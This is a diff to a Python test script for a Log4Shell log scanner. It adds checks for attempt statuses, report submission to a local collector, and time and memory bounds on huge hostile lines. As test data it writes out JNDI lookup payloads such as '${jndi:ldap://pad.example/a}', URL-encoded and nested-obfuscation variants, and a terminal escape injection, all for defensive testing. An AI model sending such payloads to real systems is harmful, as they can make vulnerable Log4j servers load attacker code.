@@ -11,12 +11,14 @@ host's own /var/log) must give no attempt.  Then the hostile inputs:
 truncated gzip, binary garbage, a gigabyte single line (bounded memory and
 time), and the command line contract (exit status, --output, stdin)."""
 import gzip
+import http.server
 import json
 import os
 import random
 import resource
 import subprocess
 import sys
+import threading
 import time
 
 L4S = os.environ.get("L4S", "build/san/log4scan")
@@ -85,6 +87,8 @@ def log4j_layout(i, payload):
 
 
 formats = [nginx, nginx_query, json_log, syslog, log4j_layout]
+# formats where a '}' of the line cannot close what a payload leaves open
+plain_formats_all = [nginx, syslog, log4j_layout]
 expected_day = {nginx: "2021-12-10", nginx_query: "2021-12-11", json_log: "2021-12-12",
                 syslog: "--12-13", log4j_layout: "2021-12-14"}
 
@@ -150,6 +154,7 @@ attempts = [r for r in recs if r["kind"] == "attempt"]
 errors = [r for r in recs if r["kind"] == "error"]
 summary = [r for r in recs if r["kind"] == "summary"]
 ok("tree: exit status 1 when attempts found", rc == 1, "rc=%d %s" % (rc, err[-300:]))
+ok("tree: every attempt performed", attempts and all(a["status"] == "performed" for a in attempts))
 ok("tree: every payload reported exactly once", len(attempts) == len(payloads),
    "%d attempts for %d payloads" % (len(attempts), len(payloads)))
 got = {(a["path"], a["line"]): a for a in attempts}
@@ -199,6 +204,74 @@ rc, out, err = run([tree])
 text = out.decode()
 ok("text: one line per attempt header", text.count(": attempt jndi:") == len(payloads))
 ok("text: summary line", "summary: %d attempts" % len(payloads) in text)
+
+# ---- statuses: performed_alone, broken, bound ---------------------------
+
+statuses = read_table("logs-statuses.tsv")
+sdir = os.path.join(OUT, "statuses")
+os.makedirs(sdir, exist_ok=True)
+slines = [plain_formats_all[i % len(plain_formats_all)](i, row[1]) for i, row in enumerate(statuses)]
+# padding past the message window: a bound attempt
+slines.append(log4j_layout(99, "${${" + "x" * 20000 + ":-}jndi:ldap://pad.example/a}"))
+write(os.path.join(sdir, "app.log"), slines)
+rc, out, err = run(["--format", "json", os.path.join(sdir, "app.log")])
+recs = records(out)
+att = {r["line"]: r for r in recs if r["kind"] == "attempt"}
+for i, row in enumerate(statuses):
+    a = att.get(i + 1)
+    ok("status %s: %s" % (row[0], row[2]), a is not None and a["status"] == row[2] and a["decoded"] == row[3],
+       "%r" % a)
+pad = att.get(len(slines))
+ok("status padding: bound, which bound", pad is not None and pad["status"] == "bound" and
+   pad["bound"] == "expression length" and pad["decoded"] == "" and pad["protocol"] == "", "%r" % pad)
+summ = recs[-1]
+n_broken = sum(1 for r in statuses if r[2] == "broken")
+ok("statuses: broken attempts are counted apart", summ.get("broken_attempts") == n_broken and
+   summ.get("attempts") == len(statuses) - n_broken + 1 and summ.get("bound_attempts") == 1, "%r" % summ)
+ok("statuses: broken attempts are not in the summary by host",
+   sum(h["attempts"] for h in summ.get("by_host", [])) == summ.get("attempts"), "%r" % summ)
+broken_only = os.path.join(sdir, "broken.log")
+write(broken_only, [log4j_layout(1, r[1]) for r in statuses if r[2] == "broken"])
+rc, out, err = run(["--format", "json", broken_only])
+ok("statuses: only broken attempts: exit status 0", rc == 0 and records(out)[-1]["broken_attempts"] == n_broken,
+   "rc=%d %s" % (rc, out[-300:]))
+rc, out, err = run([os.path.join(sdir, "app.log")])
+text = out.decode()
+ok("statuses: text output names each status",
+   "broken attempt jndi:" in text and "when logged apart from the line's earlier text" in text and
+   "possible attempt, not evaluated: expression length bound" in text and
+   "%d broken attempts" % n_broken in text, text[-600:])
+
+# what --submit sends: every record but broken attempts
+bodies = []
+
+
+class Collector(http.server.BaseHTTPRequestHandler):
+    def do_POST(self):
+        bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
+        answer = b'{"accepted":true}'
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(answer)))
+        self.end_headers()
+        self.wfile.write(answer)
+
+    def log_message(self, *args):
+        pass
+
+
+# (the Windows build, which t_windows runs this test with, has no --submit)
+if not os.environ.get("L4S_WIN_EXE"):
+    collector = http.server.HTTPServer(("127.0.0.1", 0), Collector)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    rc, out, err = run(["--format", "json", "--submit", "http://127.0.0.1:%d" % collector.server_port, "--token", "t",
+                        "--spool-dir", os.path.join(sdir, "spool"), os.path.join(sdir, "app.log")])
+    collector.shutdown()
+    sent = [json.loads(l) for b in bodies for l in b.decode().splitlines() if l.strip()]
+    sent_att = [r for r in sent if r.get("kind") == "attempt"]
+    ok("statuses: --submit sends the attempts, broken ones excepted",
+       rc == 1 and len(sent_att) == len(statuses) - n_broken + 1 and
+       not [r for r in sent_att if r["status"] == "broken"], "rc=%d %d sent %s" % (rc, len(sent_att), err[-300:]))
 
 # ---- near misses and benign logs --------------------------------------
 
@@ -278,7 +351,7 @@ rc, out, err = run(["-"], stdin=b"\x1b[31m${jndi:ldap://esc.example/\x1b]0;x\x07
 ok("text output escapes control bytes", rc == 1 and b"\x1b" not in out and b"\\x1b" in out, repr(out[:300]))
 
 
-def hostile_line_test(label, binary, size, piece, tail, limit_s, limit_mb):
+def hostile_line_test(label, binary, size, piece, tail, limit_s, limit_mb, bound_ok=0):
     """Pipe a single line of `size` bytes made of `piece`, ending in `tail`."""
     before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
     t0 = time.time()
@@ -300,9 +373,16 @@ def hostile_line_test(label, binary, size, piece, tail, limit_s, limit_mb):
     rss_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024.0
     recs = records(out)
     att = [r for r in recs if r["kind"] == "attempt"]
-    ok("%s: finds the payload at its end" % label, p.returncode == 1 and len(att) == 1 and
-       att[0]["offset"] == sent and att[0]["line"] == 1,
+    found = [r for r in att if r["status"] != "bound"]
+    ok("%s: finds the payload at its end" % label, p.returncode == 1 and len(found) == 1 and
+       found[0]["offset"] == sent and found[0]["line"] == 1 and found[0]["decoded"] == "jndi:ldap://end.example/a",
        "rc=%s %s" % (p.returncode, out[-300:]))
+    # junk before it that never closes: at most one "bound" attempt for the
+    # line (what Log4j would do with it is beyond the bounds), and the
+    # payload, which Log4j performs if the message starts there
+    ok("%s: at most one bound attempt, at the junk" % label,
+       len(att) - len(found) <= bound_ok and all(r["offset"] == 0 for r in att if r["status"] == "bound"),
+       "%r" % [(r["status"], r["offset"]) for r in att])
     ok("%s: bounded time (%.1f s)" % (label, secs), secs < limit_s)
     ok("%s: bounded memory (%.0f MB peak)" % (label, rss_mb), rss_mb < limit_mb or rss_mb <= before / 1024.0)
     print("# %s: %.1f s, peak RSS %.0f MB" % (label, secs, rss_mb))
@@ -312,7 +392,7 @@ tail = b"%24%7Bjndi:ldap://end.example/a%7D"
 if os.access(L4S_PLAIN, os.X_OK):
     hostile_line_test("1 GB single line", L4S_PLAIN, 1 << 30, b"a" * 63 + b"%", tail, 120, 64)
 hostile_line_test("64 MB single line (sanitized build)", L4S, 64 << 20, b"GET /?a=1&b=%20$x ", tail, 120, 400)
-hostile_line_test("32 MB of nested ${ (sanitized build)", L4S, 32 << 20, b"${${lower:${", tail, 120, 400)
+hostile_line_test("32 MB of nested ${ (sanitized build)", L4S, 32 << 20, b"${${lower:${", tail, 120, 400, 1)
 
 # ---- command line ------------------------------------------------------
 
